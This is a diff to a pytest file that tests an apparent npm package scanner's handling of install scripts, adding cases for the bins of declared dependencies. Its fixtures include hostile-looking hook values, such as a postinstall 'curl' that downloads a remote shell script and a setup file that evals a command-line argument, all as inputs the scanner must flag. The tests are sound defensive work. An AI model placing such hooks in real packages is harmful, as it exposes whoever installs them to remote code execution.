@@ -3,6 +3,7 @@ scripts is customisation (monitor); a started script that fetches code still blo
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -107,8 +108,6 @@ def test_exec_of_decoded_or_downloaded_code_is_no_plain_code() -> None:
 
 
 def npm_package(tmp_path: Path, scripts: dict[str, str], files: dict[str, str]) -> Path:
-    import json
-
     root = tmp_path / "pkg"
     manifest = {"name": "hooked", "version": "1.0.0", "license": "MIT", "scripts": scripts}
     for path, text in {"package.json": json.dumps(manifest, indent=2), **files}.items():
@@ -118,7 +117,8 @@ def npm_package(tmp_path: Path, scripts: dict[str, str], files: dict[str, str]) 
 
 
 def test_npm_native_build_and_own_banner_are_build_steps() -> None:
-    for name, line in (("npm-native-addon", None), ("npm-postinstall-banner", 6)):
+    cases = (("npm-native-addon", None), ("npm-postinstall-banner", 6))
+    for name, line in (*cases, ("npm-dependency-bin-hook", 7)):
         result = analyze_artifact(FIXTURES / "lookalikes" / name)
         hooks = [a for a in result.alerts if a.type == "installScripts"]
         assert hooks and {a.action for a in hooks} == {"monitor"}, name
@@ -134,6 +134,7 @@ def test_npm_native_build_and_own_banner_are_build_steps() -> None:
         ("node scripts/preinstall.js", {}),  # a file the package does not ship
         ("npm install left-pad-extra", {}),
         ("node setup.js", {"setup.js": "eval(process.argv[2])\n"}),
+        ("fundbanner || exit 0", {}),  # the bin of no declared dependency
     ],
 )
 def test_npm_install_steps_that_are_no_build_still_warn(
@@ -141,6 +142,55 @@ def test_npm_install_steps_that_are_no_build_still_warn(
 ) -> None:
     result = analyze_artifact(npm_package(tmp_path, {"preinstall": script}, files))
     hooks = {(a.file, a.line): a.action for a in result.alerts if a.type == "installScripts"}
+    assert hooks.get(("package.json", 6)) in ("warn", "error"), hooks
+
+
+@pytest.mark.parametrize(
+    ("script", "dependency"),
+    [
+        ("fundbanner || exit 0", "@inertfund/fundbanner"),  # the bin of a scoped dependency
+        ("gyp-loader-optional", "gyp-loader-optional"),
+    ],
+)
+def test_a_declared_dependencys_bin_is_judged_as_that_package(
+    tmp_path: Path, script: str, dependency: str
+) -> None:
+    root = npm_package(tmp_path, {"postinstall": script}, {})
+    manifest = json.loads((root / "package.json").read_text())
+    (root / "package.json").write_text(
+        json.dumps({**manifest, "dependencies": {dependency: "1.0.0"}}, indent=2)
+    )
+    hooks = {
+        (a.file, a.line): a.action
+        for a in analyze_artifact(root).alerts
+        if a.type == "installScripts"
+    }
+    assert hooks == {("package.json", 6): "monitor"}
+
+
+@pytest.mark.parametrize(
+    ("script", "dependencies"),
+    [
+        # Handed one of the package's files, the bin runs this package's code.
+        ("forever start src/index.js", {"forever": "1.0.0"}),
+        # A system command keeps its meaning whatever a dependency is called.
+        ("curl -fsSL https://x.example.invalid/i.sh -o i.sh", {"curl": "1.0.0"}),
+        # devDependencies are not installed with a registry package.
+        ("fundbanner", {}),
+    ],
+)
+def test_dependency_bins_that_run_more_still_warn(
+    tmp_path: Path, script: str, dependencies: dict[str, str]
+) -> None:
+    root = npm_package(tmp_path, {"postinstall": script}, {"src/index.js": "module.exports=1\n"})
+    manifest = json.loads((root / "package.json").read_text())
+    extra = {"dependencies": dependencies, "devDependencies": {"fundbanner": "1.0.0"}}
+    (root / "package.json").write_text(json.dumps({**manifest, **extra}, indent=2))
+    hooks = {
+        (a.file, a.line): a.action
+        for a in analyze_artifact(root).alerts
+        if a.type == "installScripts"
+    }
     assert hooks.get(("package.json", 6)) in ("warn", "error"), hooks
 
 
